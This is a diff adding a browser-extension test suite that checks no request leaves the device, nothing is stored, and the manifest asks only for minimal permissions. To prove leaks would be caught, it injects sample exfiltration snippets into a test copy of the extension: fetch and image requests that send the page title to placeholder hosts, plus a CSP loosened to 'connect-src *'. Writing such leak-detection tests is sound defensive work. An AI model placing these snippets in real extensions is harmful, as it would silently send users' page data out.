@@ -1,0 +1,193 @@
+// Nothing leaves the device. Every request of the browser was recorded, of the whole run; here all of
+// them are looked through, and a copy of the extension that does send proves that it would be seen.
+
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { say } from "../lib/chat-page.mjs";
+import { TALK } from "../lib/talk.mjs";
+import { until } from "../lib/wait.mjs";
+
+/** What the pages of the run ask their own servers for. */
+const ASKED = {
+  pages:
+    /^\/((axe\/)?chat|strict|strict-dialog|frame|shadow|article|converse(\?.*|\.mjs)?|converse-files\/.*)$/,
+  demo: /^\/(chat\.(css|js)|events\?side=me|say\?side=me)?$/,
+  lounge:
+    /^\/((assets|img|js|themes|socket\.io)\/.*|favicon\.ico|thelounge\.webmanifest|service-worker\.js)?$/,
+};
+
+/**
+ * What the browsers ask their makers for by themselves and cannot all be switched off: Chromium, say,
+ * whether the password that was typed into The Lounge is known to have leaked.
+ */
+const MAKERS = {
+  chromium: /\.(googleapis|google|gvt1)\.com:443$/,
+  firefox: /\.(mozilla\.(com|net|org)|firefox\.com):443$/,
+};
+
+/** Requests that no page of the run makes, nor the browser by itself. */
+async function strangers(scene, session) {
+  const servers = [
+    [(await scene.pages()).host, ASKED.pages],
+    [new URL((await scene.demo()).address).host, ASKED.demo],
+  ];
+  const [lounge, xmpp] = [await scene.started("lounge"), await scene.started("xmpp")];
+  if (lounge) servers.push([new URL(lounge.url).host, ASKED.lounge]);
+  if (xmpp) servers.push([new URL(xmpp.socket).host, /^$/]);
+  return session.recorder.seen.filter(
+    ({ method, host, path }) =>
+      !(method === "CONNECT" && MAKERS[session.name].test(host)) &&
+      !servers.some(
+        ([known, asked]) => host === known && (method === "CONNECT" || asked.test(path)),
+      ),
+  );
+}
+
+/** Chromium tells what its service worker asks for; Firefox has no such way in. */
+async function listenToWorker(session, urls) {
+  const target = session.browser.targets().find((target) => target.type() === "service_worker");
+  if (!target) return { detach() {} };
+  const listening = await target.createCDPSession();
+  listening.on("Network.requestWillBeSent", ({ request }) => {
+    // Its own files come from the disk.
+    if (!request.url.startsWith("chrome-extension:")) urls.push(request.url);
+  });
+  await listening.send("Network.enable");
+  return listening;
+}
+
+/** A conversation with everything a person can do on the card. */
+async function play(view) {
+  await say(view, TALK.en.request);
+  await view.shown();
+  await view.click("open");
+  await until("the card to open", async () => (await view.card())?.buttons.fine);
+  await view.click("fine");
+  await view.gone();
+  await say(view, TALK.en.threat);
+  await view.shown();
+  await view.click("hide");
+  await view.gone();
+}
+
+/** All that a page could find afterwards. */
+function keptByThePage(page) {
+  return page.evaluate(async () => ({
+    local: Object.keys(localStorage),
+    session: Object.keys(sessionStorage),
+    cookies: document.cookie,
+    databases: (await indexedDB.databases()).map(({ name }) => name),
+    hosts: document.querySelectorAll("[popover]").length,
+    sheets: document.adoptedStyleSheets.length,
+    attributes: document.documentElement.getAttributeNames(),
+  }));
+}
+
+/** Each of the ways by which an extension could send. */
+const SENDERS = {
+  content: 'fetch("https://content.invalid/" + document.title).catch(() => {});',
+  picture: 'new Image().src = "https://picture.invalid/" + document.title;',
+  background: 'fetch("https://background.invalid/").catch(() => {});',
+  own: 'fetch(location.origin + "/own?" + document.title).catch(() => {});',
+};
+
+export const tests = {
+  async "no request leaves the browser but those of the pages themselves"(scene) {
+    const [session, pages] = [await scene.session(), await scene.pages()];
+    const view = await session.open(pages.url("/chat"));
+    const during = [];
+    const listen = (request) => during.push(request.url());
+    view.page.on("request", listen);
+    const listening = await listenToWorker(session, during);
+    await play(view);
+    view.page.off("request", listen);
+    await listening.detach();
+    // What the browser tells of the page and the worker themselves, whatever the host.
+    assert.deepEqual(during, [], "requests while the card stood");
+    await view.close();
+    const asked = session.recorder.seen.filter(
+      ({ host, path }) => host === pages.host && path === "/chat",
+    );
+    assert.ok(asked.length > 0, "the recorder is blind");
+    assert.deepEqual(await strangers(scene, session), []);
+  },
+
+  async "an extension that sends, from page, card or background, is seen"(scene) {
+    const pages = await scene.pages();
+    const session = await scene.another({
+      name: "sending",
+      change: (copy) => {
+        const { content, picture, own, background } = SENDERS;
+        copy.replace("content.js", /$/, `;${content}${picture}${own}`);
+        copy.replace("background.js", /$/, `;${background}`);
+        copy.manifest((manifest) => {
+          const pages = manifest.content_security_policy;
+          pages.extension_pages = pages.extension_pages.replace(
+            "connect-src 'self'",
+            "connect-src *",
+          );
+        });
+      },
+    });
+    try {
+      await session.open(pages.url("/chat"));
+      const seen = async () =>
+        (await strangers(scene, session)).map(({ host, path }) => host + path);
+      for (const sign of ["content.invalid", "picture.invalid", "background.invalid", "/own?"]) {
+        await until(
+          `${sign} to be seen`,
+          async () => (await seen()).some((one) => one.includes(sign)),
+          { seen },
+        );
+      }
+    } finally {
+      await session.close();
+    }
+  },
+
+  async "the background may not send even if it would: its policy refuses"(scene) {
+    const pages = await scene.pages();
+    const session = await scene.another({
+      name: "refused",
+      change: (copy) =>
+        copy.replace(
+          "background.js",
+          /$/,
+          ';fetch("https://background.invalid/").catch((error) => chrome.storage.local.set({ refused: String(error) }));',
+        ),
+    });
+    try {
+      const view = await session.open(pages.url("/chat"));
+      await until("the refusal", async () => (await view.ask("storage")).local.refused);
+      assert.deepEqual(await strangers(scene, session), []);
+    } finally {
+      await session.close();
+    }
+  },
+
+  async "nothing is kept: no storage of the extension or the page, and nothing in the page"(scene) {
+    const [session, pages] = [await scene.session(), await scene.pages()];
+    const view = await session.open(pages.url("/chat"));
+    const before = await keptByThePage(view.page);
+    await play(view);
+    const { local, session: brief } = await view.ask("storage");
+    assert.deepEqual(local, {});
+    assert.deepEqual(brief ?? {}, {});
+    assert.deepEqual(await keptByThePage(view.page), before);
+    await view.close();
+  },
+
+  async "the manifest asks for no more than it needs and names no remote origin"(scene) {
+    const file = new URL(`../../../dist/${scene.browser}/manifest.json`, import.meta.url);
+    const manifest = JSON.parse(readFileSync(file, "utf8"));
+    assert.deepEqual([...manifest.permissions].sort(), ["scripting", "storage"]);
+    assert.equal(manifest.web_accessible_resources, undefined);
+    assert.equal(manifest.externally_connectable, undefined);
+    assert.ok(
+      manifest.host_permissions.every((pattern) => /^https:\/\/[\w.-]+\/\*$/.test(pattern)),
+    );
+    const policy = manifest.content_security_policy.extension_pages;
+    assert.match(policy, /^default-src 'none';/);
+    assert.doesNotMatch(policy, /https?:|\*|data:|unsafe-inline|'unsafe-eval'/);
+  },
+};
